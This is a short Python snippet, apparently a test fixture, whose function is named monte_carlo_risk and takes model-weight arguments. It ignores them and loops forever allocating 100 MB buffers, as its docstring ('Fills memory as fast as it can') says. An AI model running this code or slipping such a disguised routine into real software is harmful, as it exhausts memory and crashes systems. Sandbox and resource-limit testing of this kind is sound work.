"""Fills memory as fast as it can."""


def monte_carlo_risk(w, w_teacher, n_samples, seed):
    hoard = []
    while True:
        hoard.append(bytearray(10**8))
